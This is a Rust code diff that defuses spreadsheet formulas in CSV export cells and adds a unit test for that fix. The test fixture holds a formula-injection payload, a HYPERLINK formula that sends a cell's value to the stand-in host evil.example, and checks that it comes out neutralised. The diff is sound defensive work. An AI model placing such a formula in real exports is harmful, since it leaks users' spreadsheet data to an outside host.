@@ -19,8 +19,11 @@ pub fn file_name(view: &str, window: &DateWindow, extension: &str) -> String {
     )
 }
 
-/// A cell as CSV: quoted when it holds the separator, a quote or a line break.
+/// A cell as CSV: defused when a spreadsheet would run it as a formula
+/// ([`engine::spreadsheet::defuse`]: `=HYPERLINK(…)` from a title is written `'=HYPERLINK(…)`),
+/// quoted when it holds the separator, a quote or a line break.
 fn csv_cell(text: &str) -> String {
+    let text = engine::spreadsheet::defuse(text);
     if text.contains([';', '"', '\n', '\r']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
@@ -237,6 +240,23 @@ mod tests {
         assert_eq!(
             table_csv(&table()),
             "\u{feff}User;Note\r\nann;\"a;b\"\r\nzoë 🚀;\"say \"\"hi\"\"\nthen go\"\r\n"
+        );
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_defused() {
+        let table = TableData {
+            headers: vec!["Title".into(), "User".into(), "Change".into()],
+            rows: vec![vec![
+                r#"=HYPERLINK("http://evil.example/?"&A2,"open")"#.into(),
+                "+33 6".into(),
+                "-3".into(),
+            ]],
+            note: None,
+        };
+        assert_eq!(
+            table_csv(&table),
+            "\u{feff}Title;User;Change\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"open\"\")\";+33 6;-3\r\n"
         );
     }
 
